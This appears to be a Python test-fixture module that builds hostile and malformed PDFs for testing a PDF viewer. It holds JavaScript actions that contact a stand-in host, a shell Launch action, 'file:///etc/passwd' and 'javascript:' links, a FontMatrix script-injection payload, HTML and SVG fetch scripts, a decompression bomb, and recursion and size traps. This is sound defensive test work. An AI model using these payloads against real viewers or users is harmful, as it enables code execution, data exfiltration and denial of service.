"""Files that were made to do something: scripts, calls, tricks with size, and what only pretends to be a PDF. All made here."""

import io
import struct
import zlib
from collections.abc import Callable, Sequence
from itertools import pairwise
from typing import Final

import pikepdf
from pikepdf import Array, Dictionary, Name, Object, Pdf, Stream, String
from PIL import Image, ImageDraw

THIRD: Final = "https://third.test"
SCRIPT: Final = f"app.alert('ran'); this.print(true); app.launchURL('{THIRD}/js'); this.submitForm('{THIRD}/form');"
MANY: Final = 100_000
SHOWN: Final = 500
"""Pages that the viewer shows at most (web/resident/viewer/protocol.ts)."""

Part = str | Dictionary | Array


def _page(pdf: Pdf, content: bytes = b"", box: Sequence[float] = (0, 0, 300, 200), **resources: Object) -> pikepdf.Page:
    pdf.add_blank_page(page_size=(300, 200))
    page = pdf.pages[-1]
    page.MediaBox = Array(list(box))
    page.Contents = Stream(pdf, content or b"0.2 0.4 0.3 rg 20 20 260 160 re f")
    page.Resources = Dictionary({f"/{key}": value for key, value in resources.items()})
    return page


def _bytes(pdf: Pdf) -> bytes:
    out = io.BytesIO()
    pdf.save(out, static_id=True)
    return out.getvalue()


def _made(change: Callable[[Pdf, pikepdf.Page], None]) -> Callable[[], bytes]:
    def make() -> bytes:
        with Pdf.new() as pdf:
            page = _page(pdf)
            change(pdf, page)
            return _bytes(pdf)

    return make


def _action(kind: str, **entries: Object | str | int) -> Dictionary:
    return Dictionary({"/S": Name(f"/{kind}"), **{f"/{key}": value for key, value in entries.items()}})


def _annotation(kind: str, **entries: Object | str) -> Dictionary:
    place = Array([0, 0, 300, 200])
    common = {"/Type": Name.Annot, "/Subtype": Name(f"/{kind}"), "/Rect": place, "/F": 4}
    return Dictionary({**common, **{f"/{key}": value for key, value in entries.items()}})


def _scripts(pdf: Pdf, page: pikepdf.Page) -> None:
    run = _action("JavaScript", JS=String(SCRIPT))
    pdf.Root.OpenAction = run
    pdf.Root.AA = Dictionary(WC=run, WS=run, WP=run)
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("start"), run])))
    page.AA = Dictionary(O=run, C=run)
    field = _annotation("Widget", FT=Name.Tx, T=String("a"), AA=Dictionary(E=run, Fo=run, K=run, C=run, U=run, D=run), A=run)
    page.Annots = Array([pdf.make_indirect(field)])
    pdf.Root.AcroForm = Dictionary(Fields=page.Annots, CO=page.Annots, NeedAppearances=True)


def _calls(pdf: Pdf, page: pikepdf.Page) -> None:
    elsewhere = Dictionary(FS=Name.URL, F=String(f"{THIRD}/file.pdf"))
    actions = [
        _action("URI", URI=String(f"{THIRD}/uri")),
        _action("Launch", F=String("/bin/sh"), Win=Dictionary(F=String("cmd.exe"))),
        _action("GoToR", F=elsewhere, D=Array([0, Name.Fit])),
        _action("SubmitForm", F=elsewhere, Flags=4),
        _action("ImportData", F=elsewhere),
        _action("GoToE", F=elsewhere),
    ]
    for before, after in pairwise(actions):
        before.Next = after
    pdf.Root.OpenAction = actions[0]
    page.AA = Dictionary(O=actions[0])
    targets = [*actions, _action("URI", URI=String("javascript:alert(1)")), _action("URI", URI=String("file:///etc/passwd"))]
    page.Annots = Array([pdf.make_indirect(_annotation("Link", A=target)) for target in targets])


def _outside(pdf: Pdf, page: pikepdf.Page) -> None:
    """Pictures, fonts and content that are said to be somewhere else."""
    far = Dictionary(FS=Name.URL, F=String(f"{THIRD}/stream"))
    picture = Stream(pdf, b"")
    picture.stream_dict.update({"/Type": Name.XObject, "/Subtype": Name.Image, "/Width": 8, "/Height": 8, "/BitsPerComponent": 8})
    picture.stream_dict.update({"/ColorSpace": Name.DeviceGray, "/F": far})
    program = Stream(pdf, b"")
    program.stream_dict.update({"/F": far})
    described = Dictionary(Type=Name.FontDescriptor, FontName=Name.Far, Flags=32, FontFile2=pdf.make_indirect(program))
    font = Dictionary(Type=Name.Font, Subtype=Name.TrueType, BaseFont=Name.Far, FontDescriptor=described)
    page.Resources = Dictionary(XObject=Dictionary(Im=picture), Font=Dictionary(F=font))
    page.Contents = Stream(pdf, b"q 90 0 0 90 20 20 cm /Im Do Q BT /F 20 Tf 20 150 Td (far) Tj ET")


def _held(pdf: Pdf, page: pikepdf.Page) -> None:
    pdf.attachments["run.html"] = pikepdf.AttachedFileSpec(
        pdf, f"<script>fetch('{THIRD}')</script>".encode(), filename="run.html"
    )
    file = pdf.attachments["run.html"].obj
    kinds = ("FileAttachment", "Sound", "Movie", "Screen", "3D", "RichMedia")
    page.Annots = Array([pdf.make_indirect(_annotation(kind, FS=file, Movie=Dictionary(F=file))) for kind in kinds])


def _xfa(pdf: Pdf, _page: pikepdf.Page) -> None:
    form = f"""<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.3/">
    <subform name="f"><field><event activity="ready"><script contentType="application/x-javascript">{SCRIPT}</script></event>
    <ui><imageEdit data="link"/></ui><value><image href="{THIRD}/xfa.png"/></value></field></subform></template></xdp:xdp>"""
    pdf.Root.AcroForm = Dictionary(XFA=Stream(pdf, form.encode()), Fields=Array([]))
    pdf.Root.NeedsRendering = True


def _font_matrix(pdf: Pdf, page: pikepdf.Page) -> None:
    """Text where numbers belong, as a reader of 2024 put it into a function that it made."""
    evil = String("1\\); document.documentElement.dataset.ran = 1; //")
    font = Dictionary(
        Type=Name.Font,
        Subtype=Name.Type3,
        FontBBox=Array([0, 0, 10, 10]),
        FontMatrix=Array([0.1, 0, 0, 0.1, 0, evil]),
        CharProcs=Dictionary(a=Stream(pdf, b"10 0 d0 0 0 8 8 re f")),
        Encoding=Dictionary(Differences=Array([97, Name.a])),
        FirstChar=97,
        LastChar=97,
        Widths=Array([10]),
    )
    page.Resources = Dictionary(Font=Dictionary(F=font))
    page.Contents = Stream(pdf, b"BT /F 20 Tf 20 100 Td (aaa) Tj ET")


def _nested(pdf: Pdf, page: pikepdf.Page) -> None:
    """Forms that draw themselves, and states opened without end."""
    form = pdf.make_indirect(Stream(pdf, b"q /X Do /X Do Q"))
    form.stream_dict.update({"/Type": Name.XObject, "/Subtype": Name.Form, "/BBox": Array([0, 0, 300, 200])})
    form.stream_dict.Resources = Dictionary(XObject=Dictionary(X=form))
    page.Resources = Dictionary(XObject=Dictionary(X=form))
    page.Contents = Stream(pdf, b"q " * 200_000 + b"/X Do " + b"[" * 50_000 + b"] TJ")


def _loop(pdf: Pdf, page: pikepdf.Page) -> None:
    """A tree of pages that leads back to its root."""
    page.obj.Parent = pdf.Root.Pages
    pdf.Root.Pages.Kids = Array([page.obj, pdf.Root.Pages])
    pdf.Root.Pages.Count = 50


def _square(side: int) -> Callable[[Pdf, pikepdf.Page], None]:
    def change(_pdf: Pdf, page: pikepdf.Page) -> None:
        page.MediaBox = Array([0, 0, side, side])
        page.UserUnit = 1_000

    return change


def _tall(_pdf: Pdf, page: pikepdf.Page) -> None:
    page.MediaBox = Array([0, 0, 3, 14_400])


def _huge_picture(pdf: Pdf, page: pikepdf.Page) -> None:
    side = 60_000
    picture = Stream(pdf, zlib.compress(bytes(1_000_000), 9))
    picture.stream_dict.update({"/Type": Name.XObject, "/Subtype": Name.Image, "/Width": side, "/Height": side})
    picture.stream_dict.update({"/BitsPerComponent": 8, "/ColorSpace": Name.DeviceRGB, "/Filter": Name.FlateDecode})
    page.Resources = Dictionary(XObject=Dictionary(Im=picture))
    page.Contents = Stream(pdf, b"q 300 0 0 200 0 0 cm /Im Do Q")


def _raw(objects: Sequence[bytes]) -> bytes:
    """A file from its objects, numbered from 1; the first is the root."""
    out, places = bytearray(b"%PDF-1.7\n"), []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%b\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, start)
    return bytes(out)


def _bomb(size: int = 200_000_000) -> bytes:
    """Content that is 200 MB of blanks once it is inflated twice."""
    one = zlib.compressobj(9)
    inner = b"".join(one.compress(b" " * 1_000_000) for _ in range(size // 1_000_000)) + one.flush()
    packed = zlib.compress(inner, 9)
    stream = b"<</Length %d/Filter[/FlateDecode/FlateDecode]>>stream\n%b\nendstream" % (len(packed), packed)
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 200]/Contents 4 0 R/Resources<<>>>>"
    return _raw([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>", page, stream])


def _many_pages() -> bytes:
    """A tree of 100,000 pages, each an object of its own."""
    kids = b" ".join(b"%d 0 R" % (number + 3) for number in range(MANY))
    root = [b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[%b]/Count %d/MediaBox[0 0 300 200]>>" % (kids, MANY)]
    return _raw([*root, *[b"<</Type/Page/Parent 2 0 R>>"] * MANY])


def _deep() -> bytes:
    """Arrays in arrays, where a page's annotations should be."""
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 200]/Annots " + b"[" * 100_000 + b"]" * 100_000 + b">>"
    return _raw([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>", page])


def drawing() -> Image.Image:
    """A picture in black and white that no reader can mistake for another."""
    image = Image.new("1", (320, 200), 1)
    pen = ImageDraw.Draw(image)
    pen.rectangle((20, 20, 120, 180), fill=0)
    pen.ellipse((150, 40, 300, 160), outline=0, width=12)
    return image


def _with_picture(data: bytes, kind: str, bits: int) -> bytes:
    with Pdf.new() as pdf:
        page = _page(pdf, b"q 320 0 0 200 0 0 cm /Im Do Q", (0, 0, 320, 200))
        picture = Stream(pdf, data)
        picture.stream_dict.update({"/Type": Name.XObject, "/Subtype": Name.Image, "/Width": 320, "/Height": 200})
        picture.stream_dict.update({"/BitsPerComponent": bits, "/ColorSpace": Name.DeviceGray, "/Filter": Name(f"/{kind}")})
        page.Resources = Dictionary(XObject=Dictionary(Im=picture))
        out = io.BytesIO()
        # As it is: qpdf would decode what it can.
        pdf.save(out, static_id=True, stream_decode_level=pikepdf.StreamDecodeLevel.none)
        return out.getvalue()


def jpx() -> bytes:
    out = io.BytesIO()
    drawing().convert("L").save(out, "JPEG2000")
    return _with_picture(out.getvalue(), "JPXDecode", 8)


def jbig2() -> bytes:
    """One generic region in MMR code (ITU-T T.88), whose bits Pillow writes as Group 4."""
    out = io.BytesIO()
    drawing().save(out, "TIFF", compression="group4")
    with Image.open(io.BytesIO(out.getvalue())) as tiff:
        offsets, counts = tiff.tag_v2[273], tiff.tag_v2[279]  # type: ignore[attr-defined]
    code = b"".join(out.getvalue()[at : at + size] for at, size in zip(offsets, counts, strict=True))

    def segment(number: int, kind: int, data: bytes) -> bytes:
        return struct.pack(">IBBBI", number, kind, 0, 1, len(data)) + data

    page = struct.pack(">IIIIBH", 320, 200, 0, 0, 0, 0)
    region = struct.pack(">IIIIB", 320, 200, 0, 0, 0) + b"\x01" + code
    return _with_picture(segment(0, 48, page) + segment(1, 38, region), "JBIG2Decode", 1)


def _plain() -> bytes:
    return _made(lambda _pdf, _page: None)()


def _encrypted(user: str) -> bytes:
    with Pdf.open(io.BytesIO(_plain())) as pdf:
        out = io.BytesIO()
        pdf.save(out, encryption=pikepdf.Encryption(user=user, owner="owner", R=6))
        return out.getvalue()


def _truncated() -> bytes:
    return _plain()[: len(_plain()) // 3]


def _no_table() -> bytes:
    return _plain().replace(b"startxref", b"startxxxx").replace(b"xref\n", b"xxxx\n")


SVG: Final = (
    f'<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(\'{THIRD}\')"><script>fetch("{THIRD}")</script></svg>'.encode()
)
HTML: Final = f'<!doctype html><script>fetch("{THIRD}")</script><img src="{THIRD}/x">'.encode()

SHOWN_ONES: Final[dict[str, Callable[[], bytes]]] = {
    "plain": _plain,
    "scripts": _made(_scripts),
    "calls": _made(_calls),
    "outside": _made(_outside),
    "held": _made(_held),
    "xfa": _made(_xfa),
    "font-matrix": _made(_font_matrix),
    "nested": _made(_nested),
    "loop": _made(_loop),
    "square": _made(_square(14_400)),
    "tall": _made(_tall),
    "huge-picture": _made(_huge_picture),
    "deep": _deep,
    "many-pages": _many_pages,
    "jpx": jpx,
    "jbig2": jbig2,
    "encrypted-open": lambda: _encrypted(""),
    "no-table": _no_table,
    "html-before-pdf": lambda: HTML + b"\n" + _plain(),
}
"""What is shown, in part at least."""
REFUSED_ONES: Final[dict[str, tuple[Callable[[], bytes], str]]] = {
    "encrypted": (lambda: _encrypted("user"), "pdf-encrypted"),
    "truncated": (_truncated, "pdf-unreadable"),
    "head-only": (lambda: b"%PDF-1.7\n" + bytes(range(256)) * 40, "pdf-unreadable"),
    "empty": (lambda: b"", "pdf-unreadable"),
    "svg": (lambda: SVG, "pdf-unreadable"),
    "html": (lambda: HTML, "pdf-unreadable"),
}
"""What is refused, and with which words."""
EITHER: Final[dict[str, Callable[[], bytes]]] = {"bomb": _bomb}
"""What may be shown or given up, as the machine can."""
